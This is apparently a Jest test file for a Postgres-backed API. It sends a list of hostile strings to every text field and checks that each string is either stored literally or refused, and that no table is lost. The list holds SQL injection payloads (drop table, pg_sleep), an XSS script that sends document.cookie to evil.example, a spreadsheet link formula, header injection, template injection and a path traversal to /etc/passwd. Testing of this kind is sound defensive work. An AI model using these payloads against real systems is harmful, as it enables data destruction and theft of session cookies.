import { afterAll, expect, test } from '@jest/globals';
import { expectPlain } from '../api/refusals.ts';
import { examples, placesInContract, placesOf, type Spoilt, spoil } from '../every-act/examples.ts';
import { makeThings } from '../every-act/things.ts';
import { contract } from '../support/contract.ts';
import { offeredCommission } from '../support/scenario.ts';
import { createWorld } from '../support/world.ts';
import { wholeAct } from './documents.ts';
import { type State, stateOf } from './state.ts';

const world = await createWorld();
const { owner, town } = world;
const things = await makeThings(world);
afterAll(() => world.close());

/** What somebody writes who means no words by it. Each stands in the middle of some, so that trimming does not touch it. */
const HOSTILE: Readonly<Record<string, string>> = {
  'a quote that ends a text': "'; drop table people.supported_person; --",
  'a quote that asks for all': `' or '1'='1`,
  'a quote that was quoted': "\\'; select pg_sleep(5); --",
  'a comment': '/* */ -- ',
  'dollar quotes': '$$; delete from people.access_grant; $$',
  'tagged dollar quotes': '$body$ $1 $2 :name ? %s',
  'a pattern': '%_\\%',
  JSON: '{"a": [1, null]}"\\u0000',
  script: '<script>fetch("//evil.example/" + document.cookie)</script>',
  'a handler': '"><img src=x onerror=alert(1)>&lt;&amp;',
  'braces of templates': '{{constructor.constructor("return 1")()}} $\u007b7*7} <%= 7*7 %> #{7*7}',
  'a spreadsheet’s formula': '=HYPERLINK("//evil.example","click") +1 -1 @SUM(1)',
  'a header': 'a\r\nSet-Cookie: a=b\r\n\r\n<html>',
  'direction turned round': '\u202egnirts\u202c \u2066\u2069 \u200f',
  'nothing to be seen': 'a\u200b\u200c\u200d\u2060\ufeffb',
  'marks upon marks': `a${'\u0301\u0316\u0489'.repeat(12)}`,
  'two spellings of one letter': 'e\u0301 \u00e9 \ufb01 \u212b',
  'four bytes': '\u{1f600} \u{1d4d0} \u{2f81a}',
  'a family and a flag':
    '\u{1f468}\u200d\u{1f469}\u200d\u{1f467} \u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}',
  'no characters at all': '\ufffe\uffff\u{1ffff} \ue000',
  'line ends of other worlds': 'a\u2028b\u2029c\u0085d',
  'a path': '../../../etc/passwd',
};
/** What no text may hold, wherever it stands. */
const REFUSED: Readonly<Record<string, string>> = {
  'a NUL': 'a\u0000b',
  'half a character': 'a\ud800b',
  'the other half': 'a\udc00b',
  'an escape': 'a\u001b[2Jb',
  'a bell': 'a\u0007b',
  'very long': 'long '.repeat(20_000),
};

const schema = contract();
const places = placesOf(examples(world, things), 'String');
const documents = new Map(places.map(({ act }) => [act, wholeAct(schema, act, 2)]));
let stored = 0;
let refused = 0;

test('every text that an act takes is tried', () => {
  const tried = places.map(({ act, at }) => `${act} ${at}`);
  expect(placesInContract('String').filter((place) => !tried.includes(place))).toEqual([]);
});

test.each(places.map((place) => [`${place.act} ${place.at}`, place] as const))(
  '%s: whatever is written is kept as it is, or refused',
  async (_title, place) => {
    const plain = await changedBy(place, 'Words like any other');
    const before = await stateOf(owner);
    for (const words of Object.values(HOSTILE)) {
      const { did } = await write(place, `Words ${words} words`);
      if (did) expect(await isStored(asKept(place, `Words ${words} words`))).toBe(true);
    }
    for (const words of Object.values(REFUSED)) expect(await write(place, words)).toMatchObject({ did: false });
    // Nothing but what plain words change has changed, and no table is lost.
    expect(unchanged(before, await stateOf(owner))).toEqual(expect.arrayContaining(unchangedBut(plain, before)));
  },
);

test('so many texts were written', () => {
  process.stdout.write(`Hostile words: ${stored + refused} in ${places.length} places, ${stored} kept as they are.\n`);
  expect(stored).toBeGreaterThan(200);
});

/** The tables that an act changes when nothing is wrong with its words. */
async function changedBy(place: Spoilt, words: string): Promise<string[]> {
  const before = await stateOf(owner);
  await write(place, words);
  const after = await stateOf(owner);
  return Object.keys(after).filter((table) => after[table] !== before[table]);
}

function unchanged(before: State, after: State): string[] {
  return Object.keys(before).filter((table) => after[table] === before[table]);
}

function unchangedBut(changed: readonly string[], before: State): string[] {
  return Object.keys(before).filter((table) => !changed.includes(table));
}

/** Performs the act with other words in one place, and holds the answer against them. */
async function write(place: Spoilt, words: string): Promise<{ did: boolean }> {
  const { data, errors, status } = await world.ask<Record<string, { userErrors: { code: string; message: string }[] }>>(
    town.accounts[place.account],
    documents.get(place.act) ?? '',
    { input: spoil(await fresh(place), words) },
  );
  expect({ words, errors, status }).toEqual({ words, errors: undefined, status: 200 });
  const { userErrors, ...objects } = data[place.act] ?? { userErrors: [] };
  for (const { message } of userErrors) expectPlain(message);
  const did = userErrors.length === 0;
  if (did) stored += 1;
  else refused += 1;
  if (did) expect(textsIn(objects)).toContain(asKept(place, words.trim()));
  return { did };
}

/** Activities are kept in lower case, so that one is not listed as two. */
function asKept({ at }: Spoilt, words: string): string {
  return at === 'activities' ? words.normalize('NFC').toLowerCase() : words.normalize('NFC');
}

/** An offer is answered once: each attempt has one of its own. */
async function fresh(place: Spoilt): Promise<Spoilt> {
  if (!/^commission(Accept|Decline)$/.test(place.act)) return place;
  const commissionId = await offeredCommission(world, things, 60);
  return { ...place, input: { ...place.input, commissionId } };
}

function textsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(textsIn) : [];
}

/** Whether the words stand in some column of some row, letter by letter. */
async function isStored(words: string): Promise<boolean> {
  const { rows } = await owner.query<{ table: string; column: string; several: boolean }>(`
    select format('%I.%I', table_schema, table_name) as table, quote_ident(column_name) as column, data_type = 'ARRAY' as several
    from information_schema.columns
    where (data_type = 'text' or udt_name = '_text')
      and table_schema in ('identity', 'directory', 'people', 'planning', 'funds', 'commissioning')`);
  const branches = rows.map(
    ({ table, column, several }) =>
      `exists (select from ${table} where ${several ? `$1 = any (${column})` : `${column} = $1`})`,
  );
  return (await owner.query(`select ${branches.join(' or ')} as found`, [words])).rows[0].found;
}
